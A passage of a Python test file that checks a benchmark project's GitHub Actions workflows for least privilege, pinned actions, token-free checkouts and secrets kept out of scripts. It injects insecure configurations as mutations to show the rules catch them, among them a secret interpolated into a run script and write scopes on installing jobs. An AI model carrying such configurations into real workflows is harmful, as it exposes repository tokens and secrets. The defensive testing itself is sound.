        "caller", lambda d: d["jobs"]["comment"]["permissions"].update(contents="write"),
        "grants",
    ),
    "no job permissions (the workflow's read-only, too little)": (
        "caller", lambda d: d["jobs"]["comment"].pop("permissions"), "grants None",
    ),
    "a called job that asks for more": (
        "called", lambda d: d["jobs"]["post"]["permissions"].update(checks="write"), "grants",
    ),
    "a called plan job that asks to write": (
        "called", lambda d: d["jobs"]["plan"]["permissions"].update(contents="write"), "grants",
    ),
    "an input comment.yml does not take": (
        "caller", lambda d: d["jobs"]["comment"].update({"with": {"pr": 7}}),
        "passes inputs comment.yml does not take",
    ),
    "pull_request_target instead of workflow_run": (
        "caller", lambda d: d.update(on={"pull_request_target": {}}), "not workflow_run",
    ),
    "pull-requests: write at workflow level": (
        "caller", lambda d: d["permissions"].update({"pull-requests": "write"}),
        "workflow permissions",
    ),
}


@pytest.mark.parametrize("mutation", list(CALLER_MUTATIONS))
def test_a_comment_caller_that_calls_other_code_or_grants_more_is_caught(
    caller: Doc, mutation: str
) -> None:
    which, mutate, expected = CALLER_MUTATIONS[mutation]
    caller, called = copy.deepcopy(caller), load(REUSABLE)
    mutate(caller if which == "caller" else called)
    problems = comment_caller_problems(caller, called)
    assert any(expected in p for p in problems), problems


# -- schema ----------------------------------------------------------------------


def test_workflows_validate_against_githubs_schema() -> None:
    workflows = [p for p in workflow_files() if p.parent == WORKFLOWS]
    assert {BENCH, COMMENT, TESTS} <= set(workflows)
    result = validate(*workflows)
    assert result.returncode == 0, result.stdout + result.stderr
    actions = [p for p in workflow_files() if p.parent != WORKFLOWS]  # a root action.yml
    if actions:
        result = validate(*actions, schema="vendor.github-actions")
        assert result.returncode == 0, result.stdout + result.stderr


def test_the_schema_check_does_catch_a_broken_workflow(tmp_path: Path) -> None:
    # The negative control: the same check refuses a misspelt key.
    for original, key, typo in ((BENCH, "runs-on:", "run-on:"), (COMMENT, "    uses:", "    use:")):
        text = original.read_text(encoding="utf-8")
        assert text.count(key) == 1
        broken = tmp_path / original.name
        broken.write_text(text.replace(key, typo), encoding="utf-8")
        assert validate(broken).returncode != 0


# -- bench.yml: measure, read-only --------------------------------------------------


def test_bench_runs_on_pull_requests_only(bench: Doc) -> None:
    assert triggers(bench) == {"pull_request"}
    assert sorted(bench["on"]["pull_request"]["types"]) == ["opened", "reopened", "synchronize"]


@pytest.mark.parametrize(
    ("path", "ignored"),
    [
        ("README.md", True),
        ("BENCHMARKS.md", True),
        ("docs/guide/compare.md", True),
        ("engine/src/ep.c", False),
        ("harness/runner.py", False),
        ("reports/templates/comment.md", False),  # the comment's own template is code
        ("cases/grids/default.toml", False),
        (".github/workflows/bench.yml", False),
    ],
)
def test_bench_skips_docs_only_changes(bench: Doc, path: str, ignored: bool) -> None:
    patterns = bench["on"]["pull_request"]["paths-ignore"]
    assert any(github_glob(p).match(path) for p in patterns) is ignored


def test_bench_concurrency_is_per_pr_and_cancels(bench: Doc) -> None:
    concurrency = bench["concurrency"]
    assert concurrency["cancel-in-progress"] is True
    assert "github.event.pull_request.number" in concurrency["group"]


def test_bench_measures_both_sides_with_the_base_commits_action(bench: Doc, action: Doc) -> None:
    assert base_harness_problems(bench, action) == []
    # The PR's merge ref with full history (base and head both reachable), the base commit
    # in a folder of its own, and that folder's action: nothing else.
    all_steps = steps(bench)
    assert len(all_steps) == 3
    assert all_steps[0]["with"] == {"fetch-depth": 0, "persist-credentials": False}
    # The action installs epbench from its own folder (the base commit's) and runs it.
    install = action_step(action, lambda s: s.get("id") == "install")
    assert install["env"]["ACTION_PATH"] == "${{ github.action_path }}"
    assert 'pip install --quiet "$ACTION_PATH"' in install["run"]
    measure = action_step(action, runs("action --out"))
    assert measure["run"] == '"$EPBENCH" action --out "$OUT"'
    # What bench's inputs make of it: `compare-commits BASE HEAD`, each side's bundled
    # engine on the default grid, base and head read from the pull_request event.
    given = _local_action(bench)["with"]
    fields = {f.name for f in dataclasses.fields(ActionInputs)}
    inputs = ActionInputs(**{
        k.replace("-", "_"): str(v).lower() if isinstance(v, bool) else str(v)
        for k, v in given.items() if k.replace("-", "_") in fields})
    known = {opt for param in compare_commits.params for opt in param.opts}
    base, head = "a" * 40, "b" * 40
    argv = compare_commits_argv(inputs, PullRequest(base, head, 7), repo=".", out="OUT",
                                known_options=known)
    assert argv == [base, head, "--repo", ".", "--out", "OUT"]


def test_bench_runs_the_action_of_the_base_commit_as_the_runner_would(
    bench: Doc, tmp_path: Path
) -> None:
    # The PR's checkout: the head commit's action.yml at the root. bench's own script puts
    # the base commit's in the folder its action step uses, and leaves the root alone.
    repo = init_repo(tmp_path / "repo")
    (repo / "action.yml").write_text("base\n")
    git(repo, "add", ".")
    git(repo, "commit", "-qm", "base")
    base = git(repo, "rev-parse", "HEAD")
    (repo / "action.yml").write_text("head\n")
    git(repo, "commit", "-qam", "head")
    all_steps = steps(bench)
    made = run_step(_worktree(bench), {"github.event.pull_request.base.sha": base},
                    env={"PATH": os.environ["PATH"]}, cwd=repo)
    assert made.returncode == 0, made.stderr
    used = repo / str(_local_action(bench)["uses"])
    assert (used / "action.yml").read_text() == "base\n"
    assert (repo / "action.yml").read_text() == "head\n"
    assert git(repo, "status", "--porcelain", "--untracked-files=no") == ""
    assert all_steps.index(_worktree(bench)) + 1 == all_steps.index(_local_action(bench))


def test_bench_caches_the_headers_engine_build_fetches(
    bench: Doc, action: Doc, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    # bench asks the action for ORT's headers; it restores them before measuring.
    assert _local_action(bench)["with"]["ort-headers"] is True
    all_steps = action["runs"]["steps"]
    cache = step_index(all_steps, uses("actions/cache"))
    assert all_steps[cache]["if"] == "inputs.ort-headers == 'true'"
    assert cache < step_index(all_steps, runs("action --out"))
    options = all_steps[cache]["with"]
    assert options["path"] == "${{ steps.install.outputs.headers }}"
    assert options["key"] == "${{ runner.os }}-${{ steps.install.outputs.headers-key }}"
    # The install step names the folder engine/build.py fills, and a key made of the npm
    # package's pinned version: its own snippet, run here.
    install = action_step(action, lambda s: s.get("id") == "install")["run"]
    snippet = re.search(r"-c '([^']*)'", install)
    assert snippet
    monkeypatch.setenv(CACHE_DIR_ENV, str(tmp_path))
    printed = subprocess.run([sys.executable, "-c", snippet[1]], capture_output=True,
                             text=True, check=True).stdout.splitlines()
    assert printed == [
        f"headers={engine_build.cache_root()}",
        f"headers-key=epbench-ort-headers-{engine_build.NPM_PACKAGE}-"
        f"{engine_build.NPM_VERSION}",
    ]
    assert engine_build.cache_root().is_relative_to(tmp_path)


def test_the_bot_sets_up_python_with_pip_cache(bot: Doc) -> None:
    setup = _step(bot, uses("actions/setup-python"))
    assert setup["with"]["cache"] == "pip"
    assert setup["with"]["cache-dependency-path"] == "pyproject.toml"


def make_prerequisites(target: str) -> list[str]:
    text = (ROOT / "Makefile").read_text(encoding="utf-8")
    match = re.search(rf"^{re.escape(target)}:([^=\n]*)$", text, re.MULTILINE)
    assert match, f"the Makefile has no `{target}` target"
    return match.group(1).split()


def test_the_readmes_two_make_commands_start_with_make_setup() -> None:
    make_prerequisites("setup")
    assert "setup" in make_prerequisites("run")
    assert "setup" in make_prerequisites("test")
    text = (ROOT / "README.md").read_text(encoding="utf-8")
    assert "make run" in text and "make test" in text


def test_bench_uploads_its_results_even_when_the_comparison_fails(
    action: Doc, tmp_path: Path
) -> None:
    all_steps = action["runs"]["steps"]
    measure = step_index(all_steps, runs("action --out"))
    upload = step_index(all_steps, uses("actions/upload-artifact"))
    assert measure < upload
    assert all_steps[upload]["if"] == "${{ !cancelled() }}"  # a regression's exit still uploads
    out = "${{ steps.install.outputs.out }}"
    assert all_steps[measure]["env"]["OUT"] == out
    assert all_steps[upload]["with"]["path"].rstrip("/") == out
    assert all_steps[upload]["with"]["overwrite"] is True  # a re-run may upload it again
    # The measuring step records the PR number and writes the job summary whatever
    # compare-commits says: here it fails before writing anything.
    event = tmp_path / "event.json"
    event.write_text(json.dumps({"pull_request": {
        "number": 7, "base": {"sha": "a" * 40}, "head": {"sha": "b" * 40}}}))
    summary = tmp_path / "summary.md"
    code = run_action(ActionInputs(), event_path=event, out=tmp_path / "out", summary=summary,
                      environ={}, runner=lambda argv, **_: subprocess.CompletedProcess(argv, 5))
    assert code == 5
    assert json.loads((tmp_path / "out" / PR_FILE).read_text()) == {"number": 7}
    assert summary.read_text().startswith("epbench wrote no report")


def test_no_checkout_keeps_the_token(bench: Doc, bot: Doc, action: Doc) -> None:
    checkouts = [
        step for doc in (bench, bot, action, load(TESTS)) for job in rules.jobs(doc).values()
        for step in job["steps"] if uses("actions/checkout")(step)
    ]
    assert len(checkouts) == 4
    assert all(step["with"]["persist-credentials"] is False for step in checkouts)


# -- bench-comment.yml: post, from default-branch code, the artifact as data -------------


def test_the_bot_follows_bench_runs_of_pull_requests(bench: Doc, bot: Doc) -> None:
    assert triggers(bot) == {"workflow_run"}
    assert bot["on"]["workflow_run"] == {"workflows": [bench["name"]], "types": ["completed"]}
    condition = _plan_job(bot)["if"]
    assert "github.event.workflow_run.event == 'pull_request'" in condition
    # Verdicts come from a run that finished (a regression fails it); a cancelled run,
    # superseded by a newer push, posts nothing.
    assert "conclusion == 'success'" in condition and "conclusion == 'failure'" in condition
    # The post job runs only after the plan job, so only when it ran and succeeded.
    assert _post_job(bot)["needs"] == "plan" and "if" not in _post_job(bot)


def test_the_bot_asks_for_what_it_uses_and_no_more(caller: Doc, bot: Doc) -> None:
    # Read-only at workflow level; the plan job reads, the one job that posts asks for its
    # write scope alone, and the caller grants exactly what the two ask for between them.
    assert bot["permissions"] == caller["permissions"] == {"contents": "read"}
    assert _plan_job(bot)["permissions"] == {
        "contents": "read", "actions": "read", "pull-requests": "read"}
    assert _post_job(bot)["permissions"] == {"pull-requests": "write"}
    asked = {"contents": "read", "actions": "read", "pull-requests": "write"}
    assert asked_permissions(bot) == caller["jobs"]["comment"]["permissions"] == asked


def test_the_bot_downloads_what_bench_uploads(action: Doc, bot: Doc) -> None:
    upload = action_step(action, uses("actions/upload-artifact"))
    download = _step(bot, uses("actions/download-artifact"))["with"]
    assert upload["with"]["name"] == "${{ inputs.artifact }}"  # bench-matrix.yml names slices
    assert download["name"] == action["inputs"]["artifact"]["default"]
    assert download["run-id"] == "${{ github.event.workflow_run.id }}"
    assert download["github-token"] == "${{ github.token }}"


def test_the_bot_installs_the_default_branch_with_the_bot_extra(bot: Doc) -> None:
    install = _step(bot, runs("pip install"))["run"]
    assert "python -m venv .venv" in install and "-e '.[bot]'" in install
    pyproject = (ROOT / "pyproject.toml").read_text(encoding="utf-8")
    assert re.search(r'^bot = \["jsonschema[^"]*"\]$', pyproject, re.MULTILINE)


def test_the_bot_uses_options_the_command_has(bot: Doc) -> None:
    reader = _reader(bot)
    used = set(re.findall(r"(--[a-z][a-z-]*)", reader["run"]))
    known = {opt for param in comment.params for opt in param.opts}
    assert used == {"--from-artifact", "--repo", "--run-head-sha", "--artifact-url",
                    "--plan-out"}
    assert used <= known
    assert reader["env"]["GITHUB_TOKEN"] == _poster(bot)["env"]["GITHUB_TOKEN"] == (
        "${{ github.token }}")
    # Only the steps that call GitHub get it: in the plan job (a read-only token) the
    # artifact download (an action, not a script) and the planning step; in the post job
    # (the write token) its one script, not the plan's download (this run's artifact).
    holders = [
        [s.get("name") for s in job["steps"] if "github.token" in str(s)]
        for job in (_plan_job(bot), _post_job(bot))
    ]
    assert holders == [
        ["Download the bench run's artifact (data, outside the workspace)",
         "Check the artifact and plan the sticky PR comment"],
        ["Post or update the sticky PR comment"],
    ]


# -- tests.yml ---------------------------------------------------------------------


def test_tests_workflow_runs_make_test_on_pushes_and_pull_requests() -> None:
    doc = load(TESTS)
    assert {"push", "pull_request"} <= set(doc["on"])
    assert doc["permissions"] == {"contents": "read"}
    all_steps = steps(doc)
    make = all_steps[step_index(all_steps, runs("make"))]
    assert make["run"].strip() == "make test"
    assert all_steps[step_index(all_steps, uses("actions/setup-python"))]["with"]["cache"] == "pip"
    assert "make test" in (ROOT / ".ci" / "run").read_text(encoding="utf-8")


def test_the_readme_states_the_bots_trust_model_in_five_lines() -> None:
    text = (ROOT / "README.md").read_text(encoding="utf-8")
    section = text.split("\n## Benchmark every pull request\n", 1)[1].split("\n## ", 1)[0]
    model = section.split("**Trust model.**\n", 1)[1].split("\n\n", 1)[0].splitlines()
    assert [line[:3] for line in model] == ["1. ", "2. ", "3. ", "4. ", "5. "]
    assert "bench.yml" in model[0] and "read-only" in model[0]
    assert "base" in model[1]
    assert "bench-comment.yml" in model[2] and "pull-requests: write" in model[2]
    assert "reports/comparison.schema.json" in model[3]
    assert "head commit" in model[4]


# -- least privilege, every workflow file -------------------------------------------

FILES = workflow_files()


def _jobs(doc: Doc) -> list[dict[str, Any]]:
    return list(rules.jobs(doc).values())


def _checkouts_where_packages_install(doc: Doc) -> list[dict[str, Any]]:
    return [
        step for job in _jobs(doc) if rules.installing_steps(job)
        for step in job.get("steps", []) if uses("actions/checkout")(step)
    ]


def _contents_writers(doc: Doc) -> list[dict[str, Any]]:
    return [
        job for job in _jobs(doc)
        if "contents" in rules.written_scopes(job.get("permissions", doc.get("permissions")))
    ]


def _first(items: list[Any]) -> Any:
    return items[0] if items else None


def _set_workflow_permissions(doc: Doc, perms: Any) -> bool:
    if rules.is_action(doc):
        return False
    doc["permissions"] = perms
    return True


def _add_workflow_contents_write(doc: Doc) -> bool:
    perms = doc.get("permissions")
    return _set_workflow_permissions(
        doc, {**(perms if isinstance(perms, dict) else {}), "contents": "write"}
    )


def _drop_workflow_permissions(doc: Doc) -> bool:
    return not rules.is_action(doc) and doc.pop("permissions", None) is not None


def _set_persist_credentials(value: Any) -> Callable[[Doc], bool]:
    def mutate(doc: Doc) -> bool:
        checkout = _first(_checkouts_where_packages_install(doc))
        if checkout is None:
            return False
        options = checkout.setdefault("with", {})
        if value is None:
            options.pop("persist-credentials", None)
        else:
            options["persist-credentials"] = value
        return True
    return mutate


def _move_a_secret_to_job_env(doc: Doc) -> bool:
    for job in _jobs(doc):
        for step in job.get("steps", []):
            for key, value in list((step.get("env") or {}).items()):
                if rules.SECRET.search(str(value)):
                    job.setdefault("env", {})[key] = step["env"].pop(key)
                    return True
    return False


def _add_workflow_env_secret(doc: Doc) -> bool:
    if rules.is_action(doc):
        return False
    doc.setdefault("env", {})["BENCH_PAT"] = "${{ secrets.BENCH_PAT }}"
    return True


def _interpolate_a_secret(doc: Doc) -> bool:
    step = _first([s for job in _jobs(doc) for s in job.get("steps", []) if "run" in s])
    if step is None:
        return False
    step["run"] += '\necho "${{ secrets.BENCH_PAT }}" > /dev/null\n'
    return True


def _pin_by(ref: str) -> Callable[[Doc], bool]:
    def mutate(doc: Doc) -> bool:
        for job in _jobs(doc):
            for step in job.get("steps", []):
                if rules.SHA_PIN.fullmatch(str(step.get("uses", ""))):
                    step["uses"] = step["uses"].split("@")[0] + "@" + ref
                    return True
        return False
    return mutate


def _add_to_the_push_job(step: dict[str, Any]) -> Callable[[Doc], bool]:
    def mutate(doc: Doc) -> bool:
        job = _first([j for j in _contents_writers(doc) if "steps" in j])  # not a call
        if job is None:
            return False
        job["steps"].insert(1, step)
        return True
    return mutate


def _add_to_the_comment_writer(step: dict[str, Any]) -> Callable[[Doc], bool]:
    def mutate(doc: Doc) -> bool:
        job = _first([
            j for j in _jobs(doc) if "steps" in j  # not a call
            and "pull-requests" in rules.written_scopes(j.get("permissions"))
        ])
        if job is None:
            return False
        job["steps"].insert(1, step)
        return True
    return mutate


def _give_an_installing_job_pull_requests_write(doc: Doc) -> bool:
    job = _first([j for j in _jobs(doc) if rules.installing_steps(j) and "steps" in j])
    if job is None or rules.is_action(doc) or not triggers(doc) & {"workflow_call"}:
        return False
    job["permissions"] = {**job.get("permissions", {}), "pull-requests": "write"}
    return True


def _give_an_installing_job_contents_write(doc: Doc) -> bool:
    job = _first([j for j in _jobs(doc) if rules.installing_steps(j)])
    if job is None or rules.is_action(doc):
        return False
    job["permissions"] = {"contents": "write"}
    return True


def _drop_the_git_push(doc: Doc) -> bool:
    job = _first(_contents_writers(doc))
    if job is None:
        return False
    for step in job.get("steps", []):
        if "run" in step:
            step["run"] = rules.GIT_PUSH.sub("true", step["run"])
    return True



# mutation -> (the rule that must catch it, what the problem says, the mutation: False
# when it does not apply to that file). Each applies to at least one real file.
PRIVILEGE_MUTATIONS: dict[str, tuple[Callable[[Doc], list[str]], str, Callable[[Doc], bool]]] = {
    "contents: write at workflow level": (
        rules.workflow_permissions_not_read_only, "workflow permissions grant contents: write",
        _add_workflow_contents_write,
    ),
    "workflow permissions left to the repository default": (
        rules.workflow_permissions_not_read_only, "workflow permissions are not set",
        _drop_workflow_permissions,
    ),
    "write-all at workflow level": (
        rules.workflow_permissions_not_read_only, "workflow permissions are 'write-all'",
        lambda d: _set_workflow_permissions(d, "write-all"),
    ),
    "read-all at workflow level": (
        rules.workflow_permissions_not_read_only, "workflow permissions are 'read-all'",
        lambda d: _set_workflow_permissions(d, "read-all"),
    ),
    "persist-credentials dropped where packages install": (
        rules.checkouts_keeping_the_token, "leaves the token in .git/config",
        _set_persist_credentials(None),
    ),
    "persist-credentials: true where packages install": (
        rules.checkouts_keeping_the_token, "leaves the token in .git/config",
        _set_persist_credentials(True),
    ),
    "a step's secret moved to the job's env": (
        rules.secrets_beyond_their_steps, "job level: ${{", _move_a_secret_to_job_env,
    ),
    "a secret in the workflow's env": (
        rules.secrets_beyond_their_steps, "workflow level: ${{ secrets.BENCH_PAT }}",
        _add_workflow_env_secret,
    ),
    "a secret interpolated into a script": (
        rules.secrets_beyond_their_steps, "${{ secrets.BENCH_PAT }} outside the step's env",
        _interpolate_a_secret,
    ),
    "an action pinned by tag": (
        rules.unpinned_actions, "@v4: pin it by its full commit SHA", _pin_by("v4"),
    ),
    "an action pinned by branch": (
        rules.unpinned_actions, "@main: pin it by its full commit SHA", _pin_by("main"),
    ),
    "an action pinned by a short SHA": (
        rules.unpinned_actions, "@11bd719: pin it by its full commit SHA", _pin_by("11bd719"),
    ),
    "pip install in the push job": (
        rules.writers_that_install_or_push_nothing,
        "holds contents: write and installs packages, step 2 (pip install requests): pip install",
        _add_to_the_push_job({"run": "pip install requests"}),
    ),
    "make setup in the push job": (
        rules.writers_that_install_or_push_nothing,
        "holds contents: write and installs packages, step 2 (make setup): make",
        _add_to_the_push_job({"run": "make setup"}),
    ),
    "setup-python in the push job": (
        rules.writers_that_install_or_push_nothing,
        "holds contents: write and installs packages, step 2 (actions/setup-python",
        _add_to_the_push_job({"uses": SETUP_PYTHON}),
    ),
    "pip install in the comment bot's write job": (
        rules.writers_that_install_or_push_nothing,
        "post: holds pull-requests: write and installs packages, step 2 (pip install "
        "requests): pip install",
        _add_to_the_comment_writer({"run": "pip install requests"}),
    ),
    "setup-python in the comment bot's write job": (
        rules.writers_that_install_or_push_nothing,
        "post: holds pull-requests: write and installs packages, step 2 "
        "(actions/setup-python",
        _add_to_the_comment_writer({"uses": SETUP_PYTHON}),
    ),
    "pull-requests: write on the comment bot's installing job": (
        rules.writers_that_install_or_push_nothing,
        # comment.yml's plan job, or bench-matrix.yml's measuring one (its local action).
        "holds pull-requests: write and installs packages",
        _give_an_installing_job_pull_requests_write,
    ),
    "contents: write on a job that installs": (
        rules.writers_that_install_or_push_nothing, "holds contents: write and installs packages",
        _give_an_installing_job_contents_write,
    ),
    "contents: write on a job that pushes nothing": (
        rules.writers_that_install_or_push_nothing, "holds contents: write but runs no git push",
        _drop_the_git_push,
    ),
}

PRIVILEGE_CASES = [
    pytest.param(path, name, id=f"{path.name}: {name}")
    for path in FILES
    for name, (_, _, mutate) in PRIVILEGE_MUTATIONS.items()
    if mutate(copy.deepcopy(load(path)))
]


def test_every_workflow_file_is_checked() -> None:
    on_disk = {*WORKFLOWS.glob("*.yml"), *WORKFLOWS.glob("*.yaml")}
    assert on_disk == {p for p in FILES if p.parent == WORKFLOWS}
    assert {BENCH, COMMENT, TESTS, WORKFLOWS / "history.yml"} <= on_disk
    # bench's job installs epbench through its local action: the rules on installing jobs
    # (a checkout that keeps no token, no write scope) reach it.
    assert rules.installing_steps(load(BENCH)["jobs"]["bench"]) == [
        "step 3 (Measure base and head with the base commit's action): "
        "./.base-harness (a local action)"]
    # Every mutation below is tried on at least one real file.
    assert {name for _, name in (c.values for c in PRIVILEGE_CASES)} == set(PRIVILEGE_MUTATIONS)


@pytest.mark.parametrize("path", FILES, ids=lambda p: p.name)
def test_every_workflow_file_keeps_least_privilege(path: Path) -> None:
    assert rules.problems(path.read_text(encoding="utf-8")) == []


def test_write_is_held_only_by_the_push_job_and_the_comment_bots_post_job() -> None:
    writers = {
        (str(doc.get("name")), name): rules.written_scopes(
            job.get("permissions", doc.get("permissions")))
        for doc in map(load, FILES) for name, job in rules.jobs(doc).items()
    }
    assert {k: v for k, v in writers.items() if v} == {
        ("history", "push"): {"contents"}, ("bench-comment", "comment"): {"pull-requests"},
        ("epbench-comment", "post"): {"pull-requests"},
        # Publishing the history page: deploy-pages and nothing else (test_history_workflow).
        ("history", "pages"): {"pages", "id-token"},
    }
    # No exemption from "installs nothing": bench-comment.yml's job is a call with no
    # steps of its own, and comment.yml's write job installs nothing (its plan job does,
    # read-only).
    assert not hasattr(rules, "INSTALLING_WRITERS")
    bot = load(REUSABLE)
    assert rules.installing_steps(bot["jobs"]["post"]) == []
    assert len(rules.installing_steps(bot["jobs"]["plan"])) == 2  # setup-python, pip


@pytest.mark.parametrize(("path", "mutation"), PRIVILEGE_CASES)
def test_a_least_privilege_mutation_is_caught(path: Path, mutation: str) -> None:
    rule, expected, mutate = PRIVILEGE_MUTATIONS[mutation]
    doc = load(path)
    assert rule(doc) == []
    assert mutate(doc)
    problems = rule(doc)
    assert any(expected in p for p in problems), problems


PINNED_FILES = [p for p in FILES if rules.pins(p.read_text(encoding="utf-8"))]


@pytest.mark.parametrize(
    "replacement", ["", "  # latest", " # 4.2.2", " # v4 and more"], ids=repr
)
@pytest.mark.parametrize("path", PINNED_FILES, ids=lambda p: p.name)
def test_a_pin_without_its_tag_in_a_comment_is_caught(path: Path, replacement: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert rules.pins_without_a_tag(text) == []
    mutated, count = re.subn(r"(uses:\s*\S+@[0-9a-f]{40})\s+#[^\n]*", rf"\g<1>{replacement}",
                             text, count=1)
    assert count == 1
    problems = rules.pins_without_a_tag(mutated)
    assert len(problems) == 1 and "pinned without `# vX.Y.Z`" in problems[0], problems


def _pins_across(texts: list[str]) -> dict[str, set[tuple[str, str]]]:
    found: dict[str, set[tuple[str, str]]] = {}
    for text in texts:
        for action, pinned in rules.pins(text).items():
            found.setdefault(action, set()).update(pinned)
    return found


def test_each_action_is_pinned_at_one_commit_and_tag_everywhere() -> None:
    texts = [p.read_text(encoding="utf-8") for p in FILES]
    found = _pins_across(texts)
    assert {a for a, pinned in found.items() if len(pinned) != 1} == set()
    assert {"actions/checkout", "actions/setup-python", "actions/upload-artifact",
            "actions/download-artifact", "actions/cache"} <= set(found)
    # The negative control: one file moved to another commit is seen.
    checkout = "11bd71901bbe5b1630ceea73d27597364c9af683"
    first = next(i for i, text in enumerate(texts) if checkout in text)
    moved = texts[first].replace(checkout, "0" * 40, 1)
    assert len(_pins_across([*texts[:first], moved, *texts[first + 1:]])["actions/checkout"]) == 2


@pytest.mark.parametrize(
    "path",
    [p for p in FILES if triggers(load(p)) & {"pull_request", "pull_request_target",
                                               "workflow_run"}],
    ids=lambda p: p.name,
)
def test_every_workflow_a_pull_request_reaches_keeps_pr_code_from_write_tokens(
    path: Path,
) -> None:
    assert pr_code_next_to_write_token(load(path)) == []


ACTION = """\
name: epbench
description: Measure an execution provider.
runs:
  using: composite
  steps:
    - uses: actions/setup-python@a26af69be951a213d495a4c3e4e4022e16d87065 # v5.6.0
      with:
        python-version: "3.11"
    - run: make setup
      shell: bash
"""


def test_a_root_action_yml_is_checked_too(tmp_path: Path) -> None:
    (tmp_path / ".github" / "workflows").mkdir(parents=True)
    (tmp_path / ".github" / "workflows" / "tests.yml").write_text(TESTS.read_text())
    (tmp_path / "action.yml").write_text(ACTION)
    assert workflow_files(tmp_path) == [
        tmp_path / ".github" / "workflows" / "tests.yml", tmp_path / "action.yml",
    ]
    assert validate(tmp_path / "action.yml", schema="vendor.github-actions").returncode == 0
    assert rules.problems(ACTION) == []
    # Its steps follow the rules on pins, tags and secrets.
    by_tag = ACTION.replace("a26af69be951a213d495a4c3e4e4022e16d87065 # v5.6.0", "v5")
    assert rules.problems(by_tag) == [
        "action, step 1 (actions/setup-python@v5): uses actions/setup-python@v5: "
        "pin it by its full commit SHA, the tag in a comment",
    ]
    untagged = ACTION.replace(" # v5.6.0", "")
    assert rules.problems(untagged) == [
        "line 6: actions/setup-python pinned without `# vX.Y.Z`",
    ]
    leaky = ACTION.replace("run: make setup", 'run: make setup TOKEN="${{ github.token }}"')
    assert rules.problems(leaky) == [
        'action, step 2 (make setup TOKEN="${{ github.token }}"): '
        "${{ github.token }} outside the step's env: (a script interpolating it can leak it)",
    ]
